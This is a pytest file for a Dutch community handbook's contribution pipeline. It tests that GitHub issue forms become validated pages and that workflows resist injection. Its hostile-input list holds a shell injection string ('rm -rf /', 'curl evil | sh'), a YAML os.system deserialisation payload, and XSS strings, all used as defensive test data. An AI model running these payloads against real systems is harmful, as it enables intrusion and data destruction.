"""Contribution forms (issue 15): generated from the schemas, read back by `handbook from-issue`,
hostile answers end in a checked page or a Dutch comment, never a traceback or a file outside
content/; workflows and forms pass zizmor and GitHub's own schemas."""

from __future__ import annotations

import datetime
import json
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from handbook.authoring import forms, from_issue
from handbook.content.loader import load_corpus

REPO = Path(__file__).resolve().parents[1]
BIN = Path(sys.executable).parent
TODAY = datetime.date(2026, 11, 28)


@pytest.fixture(scope="module")
def corpus():
    return load_corpus(REPO)


@pytest.fixture
def root(tmp_path):
    for name in ("content",):
        shutil.copytree(REPO / name, tmp_path / name)
    shutil.copy(REPO / "mkdocs.yml", tmp_path / "mkdocs.yml")
    return tmp_path


def test_committed_forms_are_the_generated_ones(corpus):
    for name, text in forms.generated(corpus).items():
        path = REPO / forms.FORM_DIR / name
        assert path.is_file() and path.read_text(encoding="utf-8") == text, f"run `handbook forms` ({name})"


def test_a_form_changes_when_the_content_does(corpus):
    before = forms.generated(corpus)["nieuwe-tip.yml"]
    theme = corpus.of_type("theme")[0]
    assert f"- {theme.title}" in before  # the theme choices come from content/themas/


def test_forms_and_workflows_pass_githubs_schemas_and_zizmor():
    issue_forms = [str(p) for p in (REPO / forms.FORM_DIR).glob("*.yml") if p.name != "config.yml"]
    workflows = [str(p) for p in (REPO / ".github" / "workflows").glob("*.yml")]
    for schema, files in (("vendor.github-issue-forms", issue_forms), ("vendor.github-workflows", workflows)):
        done = subprocess.run([BIN / "check-jsonschema", "--builtin-schema", schema, *files], capture_output=True, text=True)
        assert done.returncode == 0, done.stdout + done.stderr
    audit = subprocess.run([BIN / "zizmor", "--offline", "--no-progress", str(REPO / ".github" / "workflows")], capture_output=True, text=True)
    assert audit.returncode == 0, audit.stdout + audit.stderr


def test_no_user_text_is_interpolated_into_a_run_line():
    import re

    import yaml

    for path in (REPO / ".github" / "workflows").glob("*.yml"):
        for job in yaml.safe_load(path.read_text(encoding="utf-8"))["jobs"].values():
            for step in job.get("steps", []):
                assert not re.search(r"\$\{\{[^}]*(issue|comment|pull_request|label|head_ref|sender)", step.get("run", "")), (path.name, step)


def test_form_url_prefills_answers():
    url = forms.form_url("https://github.com/o/r", "nieuwe-tip.yml", themes="Armoede & geld")
    assert url == "https://github.com/o/r/issues/new?template=nieuwe-tip.yml&themes=Armoede+%26+geld"


# -- from-issue ---------------------------------------------------------------------------


def body_of(type_name: str, corpus, answers: dict) -> str:
    """The issue body GitHub writes for a filled form: '### Label' and the answer, per field."""
    parts = []
    for field in forms.fields(type_name, corpus):
        answer = answers.get(field.id, forms.NO_ANSWER)
        parts.append(f"### {field.label}\n\n{answer}")
    return "\n\n".join(parts)


def event(type_name: str, corpus, answers: dict, number: int = 42) -> dict:
    from handbook.content import schemas

    label = schemas.page_types()[type_name].label.lower()
    return {
        "action": "labeled",
        "label": {"name": "omzetten"},
        "issue": {
            "number": number,
            "body": body_of(type_name, corpus, answers),
            "user": {"login": "fatma-b", "id": 1234},
            "labels": [{"name": "bijdrage"}, {"name": label}, {"name": "omzetten"}],
        },
    }


def title_of(corpus, type_name, slug):
    return corpus.get(slug).title


CHECKED = "- [X] " + forms.PRIVACY_TEXT


def realistic(type_name: str, corpus) -> dict:
    theme = next(t for t in corpus.of_type("theme") if t.slug == "ouders-betrekken")
    source = corpus.get("zwolle-netwerken-van-ouders")
    common = {
        "description": "Ouders die zelf drempels kenden, weten vaak het best hoe je andere ouders bereikt en uitnodigt.",
        "themes": theme.title,
        "audience": "Professionals, Vrijwilligers",
        "sources": source.title,
        forms.PRIVACY_ID: CHECKED,
    }
    if type_name == "tip":
        return {**common, "title": "Vraag ouders wie ze nog kennen in de straat", "tekst": "Vraag aan het eind van een bijeenkomst: wie zou dit ook willen horen? Ouders nemen dan vaak een buurvrouw mee, ook als die Nederlands nog lastig vindt."}
    if type_name == "method":
        return {
            **common,
            "title": "Ronde van ervaringen voor ouders en werkers",
            "duration": "60-90",
            "group_size": "6–12",
            "roles": "Gespreksleider: bewaakt de tijd en de beurt\nDeelnemers: vertellen en vragen door",
            "materials": "- Koffie en thee\n- Een grote vel papier",
            "sectie-1": "Samen ervaringen delen en van elkaar leren, in gewone taal.",
            "sectie-2": "Iedereen vertelt kort een ervaring\nDe groep stelt vragen\nSamen noemen we wat we meenemen",
        }
    if type_name == "practice":
        hood = corpus.get("stadshagen")
        return {**common, "title": "Ouderkamer in een nieuwbouwwijk", "city": "Zwolle", "neighbourhoods": hood.title,
                "organisations": "Sociaal wijkteam\nBibliotheek", "period": "2021-2023",
                "tekst": "Een vaste ochtend in de week waar ouders met jonge kinderen binnenlopen; de werkers schuiven aan."}
    if type_name == "roadshow":
        hood = corpus.get("crooswijk")
        return {**common, "title": "Roadshow over samenwerken in de buurt", "neighbourhood": hood.title, "date": "onbekend",
                "organisers": "Het leernetwerk", "sources": corpus.get("rotterdam-leernetwerk").title,
                "sectie-1": "Dat elkaar kennen de eerste stap is.", "tekst": "Een middag in het buurthuis."}
    raise AssertionError(type_name)


@pytest.mark.parametrize("type_name", ["tip", "method", "practice", "roadshow"])
def test_a_filled_form_becomes_a_page_that_passes_the_check(root, corpus, type_name):
    outcome = from_issue.convert(root, event(type_name, corpus, realistic(type_name, corpus)), TODAY)
    assert outcome.ok, outcome.comment
    assert outcome.path.startswith("content/") and (root / outcome.path).is_file()
    assert outcome.branch.startswith("bijdrage/42-")
    assert "Co-authored-by: fatma-b <1234+fatma-b@users.noreply.github.com>" in outcome.commit_message
    from handbook.check.runner import run_check

    errors = [p for p in run_check(root, [str(root / outcome.path)]) if p.level == "error"]
    assert errors == []


def test_accents_and_lists_survive(root, corpus):
    answers = realistic("method", corpus)
    answers["title"] = "Één kopje koffie: café-gesprek"
    outcome = from_issue.convert(root, event("method", corpus, answers), TODAY)
    assert outcome.ok, outcome.comment
    page = load_corpus(root).get(Path(outcome.path).stem)
    assert page.title == "Één kopje koffie: café-gesprek"
    assert page.meta["roles"][0] == {"name": "Gespreksleider", "task": "bewaakt de tijd en de beurt"}
    assert page.meta["duration"] == {"min": 60, "max": 90} and page.meta["group_size"] == {"min": 6, "max": 12}
    assert "1. Iedereen vertelt kort een ervaring" in page.body


def test_preparation_is_optional_and_becomes_a_list(root, corpus):
    """#16: the method form asks 'Voorbereiding' (not required); lines become the list, no answer no key."""
    (field,) = [f for f in forms.fields("method", corpus) if f.key == "preparation"]
    assert (field.label, field.kind, field.required) == ("Voorbereiding", "textarea", False)
    answers = realistic("method", corpus)
    outcome = from_issue.convert(root, event("method", corpus, answers), TODAY)
    assert outcome.ok, outcome.comment
    assert "preparation" not in load_corpus(root).get(Path(outcome.path).stem).meta
    answers = {**answers, "title": "Ronde van ervaringen met voorbereiding",
               "preparation": "- De begeleider regelt een rustige ruimte.\n- Iedereen denkt vooraf aan een voorval."}
    outcome = from_issue.convert(root, event("method", corpus, answers, number=43), TODAY)
    assert outcome.ok, outcome.comment
    page = load_corpus(root).get(Path(outcome.path).stem)
    assert page.meta["preparation"] == ["De begeleider regelt een rustige ruimte.", "Iedereen denkt vooraf aan een voorval."]


HOSTILE_TEXT = [
    "$(rm -rf /) `id` ; echo pwned > /tmp/x && curl evil | sh",
    "---\ntitle: gekaapt\nstatus: draft\n---",
    "key: [1, 2\n!!python/object/apply:os.system ['id']",
    "<script>alert(1)</script>",
    '<iframe src="https://evil.example"></iframe>',
    "[klik](javascript:alert(1))",
    "![pixel](https://tracker.example/p.png)",
]


@pytest.mark.parametrize("text", HOSTILE_TEXT)
@pytest.mark.parametrize("field", ["title", "description", "tekst"])
def test_hostile_answers_end_in_a_checked_page_or_a_dutch_comment(root, corpus, text, field):
    answers = realistic("tip", corpus)
    answers[field] = text if field != "title" else text.replace("\n", " ")[:80] or "Xyz"
    before = set(p for p in root.rglob("*") if p.is_file())
    outcome = from_issue.convert(root, event("tip", corpus, answers), TODAY)
    after = set(p for p in root.rglob("*") if p.is_file())
    new = after - before
    # Only pages in content/ (and the check's own caches in .handbook/) may appear.
    assert all(p.is_relative_to(root / "content") or p.is_relative_to(root / ".handbook") for p in new)
    if outcome.ok:
        from handbook.check.runner import run_check

        assert [p for p in run_check(root, [str(root / outcome.path)]) if p.level == "error"] == []
        # Markup in the body never passes; in a title or description it is plain text that the
        # site escapes (decided on what the browser gets, not on the raw text).
        assert field != "tekst" or not any(s in text for s in ("<script", "<iframe", "javascript:", "https://tracker"))
    else:
        pages = {p for p in new if p.is_relative_to(root / "content")}
        assert pages == set() and outcome.comment.startswith("Dank je wel")


def test_a_megabyte_field_is_refused_without_a_traceback(root, corpus):
    answers = realistic("tip", corpus)
    answers["tekst"] = "woord " * 200_000
    outcome = from_issue.convert(root, event("tip", corpus, answers), TODAY)
    assert outcome.comment  # a page or a Dutch comment; never an exception


def test_missing_unknown_and_wrong_fields(root, corpus):
    answers = realistic("tip", corpus)
    del answers["title"]
    assert "titel" in from_issue.convert(root, event("tip", corpus, answers), TODAY).comment
    answers = realistic("tip", corpus)
    answers["themes"] = "Een thema dat niet bestaat"
    outcome = from_issue.convert(root, event("tip", corpus, answers), TODAY)
    assert not outcome.ok and "kies uit de lijst" in outcome.comment
    answers = realistic("tip", corpus)
    answers[forms.PRIVACY_ID] = "- [ ] " + forms.PRIVACY_TEXT
    assert "Privacy" in from_issue.convert(root, event("tip", corpus, answers), TODAY).comment
    no_label = event("tip", corpus, realistic("tip", corpus))
    no_label["issue"]["labels"] = [{"name": "bijdrage"}]
    assert not from_issue.convert(root, no_label, TODAY).ok


@pytest.mark.parametrize(
    "personal",
    [
        "Mail me op fatma@example.nl",
        "Bel 06-12345678 als je vragen hebt",
        "Haar BSN is 111222333",
        "Stort op NL91ABNA0417164300",
        "Ze woont op de Dorpsstraat 12 in Zwolle",
        "Daan (4) en Fatima (8 jaar) kwamen mee",
        "geboren op 3 maart 2015",
    ],
)
def test_personal_data_makes_no_page_and_is_not_quoted_back(root, corpus, personal):
    answers = realistic("tip", corpus)
    answers["tekst"] = "We begonnen klein. " + personal + ". Daarna kwamen er meer ouders."
    outcome = from_issue.convert(root, event("tip", corpus, answers), TODAY)
    assert not outcome.ok
    assert outcome.labels == [from_issue.PRIVACY_LABEL]
    assert personal not in outcome.comment and "persoonlijke gegevens" in outcome.comment
    assert not (root / "content" / "tips" / "vraag-ouders-wie-ze-nog-kennen-in-de-straat.md").exists()


def test_cli_writes_the_outcome_for_the_workflow(root, corpus, tmp_path):
    path = tmp_path / "event.json"
    path.write_text(json.dumps(event("tip", corpus, realistic("tip", corpus))), encoding="utf-8")
    out = tmp_path / "uitkomst.json"
    done = subprocess.run([BIN / "handbook", "--root", str(root), "from-issue", str(path), "--output", str(out)], capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
    assert json.loads(out.read_text(encoding="utf-8"))["ok"] is True
    path.write_text("{kapot", encoding="utf-8")
    done = subprocess.run([BIN / "handbook", "--root", str(root), "from-issue", str(path)], capture_output=True, text=True)
    assert done.returncode == 2 and "Traceback" not in done.stderr


def test_privacy_rules_name_real_rules():
    from handbook.check.rules import RULES

    ids = {getattr(rule, "ID", "") for rule in RULES} | {"raw-html"}
    for prefix in from_issue.PRIVACY_RULES:
        assert any(i.startswith(prefix) for i in ids) or prefix == "personal-", prefix


@pytest.mark.parametrize("title", ["<img src=x onerror=alert(1)> tip", "Vraag \x1b[31mROOD"])
def test_markup_or_control_characters_in_a_value_are_not_quoted_back(root, corpus, title):
    answers = realistic("tip", corpus)
    answers["title"] = title
    outcome = from_issue.convert(root, event("tip", corpus, answers), TODAY)
    assert not outcome.ok and outcome.labels == [from_issue.PRIVACY_LABEL]
    assert "onerror" not in outcome.comment and "\x1b" not in outcome.comment
